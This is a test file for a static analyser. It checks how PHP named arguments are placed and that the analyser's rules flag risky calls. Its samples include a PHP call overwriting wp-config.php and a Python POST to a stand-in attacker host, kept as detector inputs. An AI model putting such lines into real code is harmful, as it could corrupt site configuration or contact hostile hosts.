import { describe, expect, it } from "vitest";
import { parsePhp } from "../parse/parse-php.ts";
import { listChildren, type Tree } from "../parse/tree.ts";
import { analyseSources } from "../testing/analyse-samples.ts";
import { placeArguments } from "./place-arguments.ts";

function place(source: string): string[] {
  const find = (tree: Tree): (Tree & { kind: "call" }) | undefined =>
    tree.kind === "call"
      ? tree
      : listChildren(tree)
          .map(find)
          .find((each) => each !== undefined);
  const call = find(parsePhp(`<?php ${source};`));
  if (!call) throw new Error("no call");
  return placeArguments(call, "php").args.map((each) => (each.kind === "text" ? each.text : each.kind));
}

describe("arguments by name", () => {
  it("stand where the function has them, in any order", () => {
    expect(place("f(data: 'x', filename: 'y')")).toEqual(["y", "x"]);
    expect(place("f('y', flags: 'z')")).toEqual(["y", "group", "z"]);
    expect(place("f(other: 'x', more: 'y')")).toEqual(["x", "y"]);
  });

  it("hide nothing from the rules", () => {
    const rules = analyseSources([
      { path: "a.php", source: "<?php file_put_contents(data: $x, filename: ABSPATH . '/wp-config.php');" },
      { path: "b.py", source: "import requests\nrequests.post(url='https://stat.evil-cdn.net/c')" },
    ]).map((found) => found.map(({ rule }) => rule));
    expect(rules[0]).toContain("write-outside");
    expect(rules[1]).toContain("host-undeclared");
  });
});
